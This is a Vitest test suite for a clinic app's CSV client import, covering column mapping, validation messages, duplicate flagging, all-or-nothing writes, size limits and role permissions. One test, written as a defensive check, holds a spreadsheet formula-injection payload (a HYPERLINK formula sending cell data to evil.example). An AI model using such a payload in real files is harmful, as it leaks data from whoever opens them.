// Importing clients from CSV: suggested column mapping, per-row and per-field errors from the same
// schema as "New client", duplicates flagged, all-or-nothing, size limits. Real files, no mocks.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Client, ClientPage } from '../../shared/schemas/client';
import { IMPORT_MAX_ROWS, type ImportPreview, type ImportResult } from '../../shared/schemas/import';
import { cleanupTestCores, count, expectOk, openTestCore, snapshot, type TestCore } from '../helpers/core';

afterEach(cleanupTestCores);

const SETUP = {
  clinic: { name: 'Calm Hands', timeZone: 'America/Los_Angeles' },
  practitioner: { firstName: 'Pat', lastName: 'Kneader', npi: '1234567893' },
  access: { mode: 'none' },
};

let core: TestCore;
beforeEach(async () => {
  core = await openTestCore();
  expectOk(core.invoke('clinic/setup', SETUP));
});

const preview = (csv: string, mapping?: Record<string, string | null>) => expectOk<ImportPreview>(core.invoke('clients/importPreview', mapping ? { csv, mapping } : { csv }));
const lines = (...rows: string[]) => rows.join('\r\n');

describe('clients/importPreview', () => {
  it('suggests a mapping from headers as people write them', () => {
    const csv = lines(
      'First Name,Surname,DOB,E-mail,Cell,Street Address,Zip,State,Gender,Insurance,Member ID,Comments,Favourite colour',
      'Ann,Lee,1980-04-12,ann@example.com,555-010-2000,1 Main St,94110,CA,F,Aetna,W123,Likes quiet,Blue',
    );
    const p = preview(csv);
    expect(p.suggested).toMatchObject({
      legalFirstName: 'First Name',
      legalLastName: 'Surname',
      dateOfBirth: 'DOB',
      email: 'E-mail',
      phone: 'Cell',
      addressLine1: 'Street Address',
      postalCode: 'Zip',
      region: 'State',
      sex: 'Gender',
      insurancePayer: 'Insurance',
      insuranceMemberId: 'Member ID',
      notes: 'Comments',
      preferredName: null,
    });
    expect(Object.values(p.suggested)).not.toContain('Favourite colour');
    expect(p.mapping).toEqual(p.suggested);
    expect(p.rows[0]).toMatchObject({ line: 2, errors: {}, duplicate: null, values: { legalFirstName: 'Ann', sex: 'female', dateOfBirth: '1980-04-12' } });
  });

  it.each([
    [['first', 'last', 'Date of birth', 'email address'], { legalFirstName: 'first', legalLastName: 'last', dateOfBirth: 'Date of birth', email: 'email address' }],
    [['Given name', 'Family name', 'Birthdate', 'Phone number'], { legalFirstName: 'Given name', legalLastName: 'Family name', dateOfBirth: 'Birthdate', phone: 'Phone number' }],
    [['Client First Name', 'Client Last Name', 'Emial'], { legalFirstName: 'Client First Name', legalLastName: 'Client Last Name', email: 'Emial' }],
  ])('matches %j', (headers, expected) => {
    expect(preview(lines(headers.join(','), headers.map(() => 'x').join(','))).suggested).toMatchObject(expected);
  });

  it('names repeated and blank headers apart, so each column can be chosen', () => {
    const p = preview(lines('First,Last,Phone,Phone,', 'Ann,Lee,555-010-2000,555-010-3000,x'));
    expect(p.headers).toEqual(['First', 'Last', 'Phone', 'Phone (2)', 'Column 5']);
    expect(p.suggested.phone).toBe('Phone');
  });

  it('reports per-row, per-field errors with the client form’s messages, and reads local dates', () => {
    const csv = lines(
      'First Name,Last Name,DOB,Email,Sex',
      'Ann,Lee,04/12/1980,ann@example.com,F',
      ',Lee,1980-02-30,not-an-email,robot',
      'Bob,Day,12/04/80,,',
    );
    const p = preview(csv);
    expect(p.totalRows).toBe(3);
    expect(p.errorRows).toBe(2);
    const [ok, bad, shortYear] = p.rows;
    expect(ok).toMatchObject({ line: 2, errors: {}, values: { dateOfBirth: '1980-04-12' } }); // month first in America/
    expect(bad!.line).toBe(3);
    expect(bad!.errors).toMatchObject({
      legalFirstName: 'Legal first name is required',
      dateOfBirth: 'That date does not exist',
      email: 'Enter an email like name@example.com',
      sex: expect.stringMatching(/Use one of: female, male/),
    });
    expect(shortYear!.errors.dateOfBirth).toMatch(/four digits/);
  });

  it('puts mapping problems beside the field: required field unmapped, unknown column, a column used twice', () => {
    const p = preview(lines('A,B', 'x,y'), { legalFirstName: 'A', legalLastName: null, email: 'Nope', phone: 'A' });
    expect(p.mappingErrors.legalLastName).toMatch(/Choose the column that holds the legal last name/);
    expect(p.mappingErrors.email).toMatch(/no column called “Nope”/);
    expect(p.mappingErrors.phone).toMatch(/already used for Legal first name/);
    // Said once, beside the select, and not again as an error on every row.
    expect(p.errorRows).toBe(0);
    expect(p.rows[0]!.errors).toEqual({});
  });

  it('flags rows that match an existing client or an earlier row', () => {
    expectOk(core.invoke('clients/create', { legalFirstName: 'Ann', legalLastName: 'Lée', dateOfBirth: '1980-04-12' }));
    const p = preview(lines('First,Last,DOB', 'ann,LEE,1980-04-12', 'Cy,New,', 'Cy,New,'));
    expect(p.duplicateRows).toBe(2);
    expect(p.rows[0]!.duplicate).toMatchObject({ kind: 'existing', label: 'Ann Lée (born 1980-04-12)' });
    expect(p.rows[1]!.duplicate).toBeNull();
    expect(p.rows[2]!.duplicate).toMatchObject({ kind: 'file', label: 'row 3' });
  });

  it('reads semicolon files, quoted cells with commas and line breaks, and a byte-order mark', () => {
    const p = preview(`\uFEFF${lines('Vorname;Nachname;Notes', 'Jürgen;"Müller, Jr.";"line 1\nline 2"')}`, {
      legalFirstName: 'Vorname',
      legalLastName: 'Nachname',
      notes: 'Notes',
    });
    expect(p.errorRows).toBe(0);
    expect(p.rows[0]!.values).toEqual({ legalFirstName: 'Jürgen', legalLastName: 'Müller, Jr.', notes: 'line 1\nline 2' });
  });

  it('refuses files over the row limit and the size limit with a clear message, writing nothing', () => {
    const before = snapshot(core.sqlite);
    const many = ['First,Last', ...Array.from({ length: IMPORT_MAX_ROWS + 1 }, (_, i) => `A${i},B`)].join('\r\n');
    const tooMany = core.invoke('clients/importPreview', { csv: many });
    expect(tooMany).toMatchObject({ ok: false, error: { code: 'invalid_input', fields: { csv: expect.stringMatching(/5,001 rows; Palpate imports at most 5,000/) } } });
    const huge = `First,Last\r\n${'x'.repeat(5 * 1024 * 1024)},y`;
    const tooBig = core.invoke('clients/import', { csv: huge, mapping: { legalFirstName: 'First', legalLastName: 'Last' } });
    expect(tooBig).toMatchObject({ ok: false, error: { code: 'invalid_input', fields: { csv: expect.stringMatching(/larger than 5 MB/) } } });
    expect(core.invoke('clients/importPreview', { csv: 'First,Last' })).toMatchObject({ ok: false, error: { fields: { csv: /no clients under it/ } } });
    expect(core.invoke('clients/importPreview', { csv: 'First,Last\r\n"Ann,Lee' })).toMatchObject({ ok: false, error: { fields: { csv: /never closed/ } } });
    expect(snapshot(core.sqlite)).toEqual(before);
  });
});

describe('clients/import', () => {
  const mapping = { legalFirstName: 'First', legalLastName: 'Last', dateOfBirth: 'DOB', notes: 'Notes' };

  it('imports every row in one go and says how many', () => {
    const csv = lines('First,Last,DOB,Notes', 'Ann,Lee,1980-04-12,', 'Bob,Day,,Prefers mornings', 'Cy,Ng,1975-01-02,');
    const result = expectOk<ImportResult>(core.invoke('clients/import', { csv, mapping }));
    expect(result).toEqual({ imported: 3, skippedDuplicates: 0, message: 'Imported 3 clients.' });
    const page = expectOk<ClientPage>(core.invoke('clients/list', { status: 'all', limit: 10, offset: 0 }));
    expect(page.clients.map((c) => `${c.legalFirstName} ${c.legalLastName}`).sort()).toEqual(['Ann Lee', 'Bob Day', 'Cy Ng']);
    // Searchable at once (the search index is kept by triggers), and each client's trail starts with its creation.
    expect(expectOk<unknown[]>(core.invoke('clients/search', { query: 'bob' }))).toHaveLength(1);
    const created = core.sqlite.prepare(`SELECT count(*) FROM audit_log WHERE action = 'create' AND entity = 'client' AND client_id IS NOT NULL`).pluck().get();
    expect(created).toBe(3);
    const summary = core.sqlite.prepare(`SELECT detail FROM audit_log WHERE detail LIKE '%clients/import%'`).pluck().all();
    expect(summary).toHaveLength(1);
  });

  it('is all-or-nothing: one bad row and not a single client is written', () => {
    const before = snapshot(core.sqlite);
    const csv = lines('First,Last,DOB,Notes', 'Ann,Lee,1980-04-12,', 'Bob,Day,1980-13-45,', 'Cy,Ng,,');
    const result = core.invoke('clients/import', { csv, mapping });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
    expect((result as { error: { message: string } }).error.message).toMatch(/^1 row has problems \(first, row 3 \(Date of birth\): .*\)\..*Nothing was imported\.$/);
    expect(snapshot(core.sqlite)).toEqual(before);
    expect(count(core.sqlite, 'clients')).toBe(0);
  });

  it('refuses a mapping without the required columns, on the mapping field', () => {
    const before = snapshot(core.sqlite);
    const result = core.invoke('clients/import', { csv: lines('First,Last', 'Ann,Lee'), mapping: { legalFirstName: 'First' } });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid_input', fields: { 'mapping.legalLastName': expect.stringMatching(/legal last name/) } } });
    expect(snapshot(core.sqlite)).toEqual(before);
  });

  it('stores formula-looking cells as plain text, exactly as typed, and strips only an export’s escape apostrophe', () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const csv = lines('First,Last,DOB,Notes', `"+Ann",Lee,,"${evil.replace(/"/g, '""')}"`, `Bob,Day,,"'=1+1"`);
    expectOk(core.invoke('clients/import', { csv, mapping }));
    const rows = core.sqlite.prepare('SELECT legal_first_name, notes FROM clients ORDER BY legal_first_name').all() as { legal_first_name: string; notes: string }[];
    expect(rows).toEqual([
      { legal_first_name: '+Ann', notes: evil },
      { legal_first_name: 'Bob', notes: '=1+1' },
    ]);
    // And any CSV Palpate writes escapes them again.
    const exported = expectOk<{ csv: string }>(core.invoke('audit/csv', {})).csv;
    expect(exported).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('leaves out rows that match existing clients unless asked to import them', () => {
    expectOk<Client>(core.invoke('clients/create', { legalFirstName: 'Ann', legalLastName: 'Lee', dateOfBirth: '1980-04-12' }));
    const csv = lines('First,Last,DOB,Notes', 'Ann,Lee,1980-04-12,', 'Bob,Day,,');
    expect(expectOk<ImportResult>(core.invoke('clients/import', { csv, mapping }))).toMatchObject({ imported: 1, skippedDuplicates: 1 });
    expect(count(core.sqlite, 'clients')).toBe(2);
    expect(expectOk<ImportResult>(core.invoke('clients/import', { csv, mapping, skipDuplicates: false }))).toMatchObject({ imported: 2, skippedDuplicates: 0 });
    expect(count(core.sqlite, 'clients')).toBe(4);
  });

  it('imports the full 5,000 rows in one transaction', () => {
    const csv = ['First,Last', ...Array.from({ length: IMPORT_MAX_ROWS }, (_, i) => `Person${i},Family${i}`)].join('\r\n');
    const started = Date.now();
    expect(expectOk<ImportResult>(core.invoke('clients/import', { csv, mapping: { legalFirstName: 'First', legalLastName: 'Last' } })).imported).toBe(IMPORT_MAX_ROWS);
    expect(count(core.sqlite, 'clients')).toBe(IMPORT_MAX_ROWS);
    expect(Date.now() - started).toBeLessThan(15_000);
  });
});

describe('who may import', () => {
  it('the owner and the front desk; a therapist is refused, and nothing is written', async () => {
    const locked = await openTestCore();
    expectOk(locked.invoke('clinic/setup', { ...SETUP, access: { mode: 'passcode', passcode: 'owner-1234' } }));
    const desk = expectOk<{ user: { id: string } }>(locked.invoke('users/create', { name: 'Fran Desk', role: 'front_desk', passcode: 'desk-1234' }));
    const practitionerId = expectOk<{ id: string }>(locked.invoke('practitioners/create', { firstName: 'Theo', lastName: 'Therapist' })).id;
    const therapist = expectOk<{ user: { id: string } }>(locked.invoke('users/create', { name: 'Theo Therapist', role: 'therapist', practitionerId, passcode: 'ther-1234' }));
    const csv = lines('First,Last', 'Ann,Lee');
    const mapping = { legalFirstName: 'First', legalLastName: 'Last' };

    expectOk(locked.invoke('auth/signIn', { userId: therapist.user.id, passcode: 'ther-1234' }));
    const before = snapshot(locked.sqlite);
    expect(locked.invoke('clients/importPreview', { csv })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(locked.invoke('clients/import', { csv, mapping })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(count(locked.sqlite, 'clients')).toBe(0);
    expect(snapshot(locked.sqlite).tables.clients).toEqual(before.tables.clients);

    expectOk(locked.invoke('auth/signIn', { userId: desk.user.id, passcode: 'desk-1234' }));
    expect(expectOk<ImportResult>(locked.invoke('clients/import', { csv, mapping })).imported).toBe(1);
  });
});
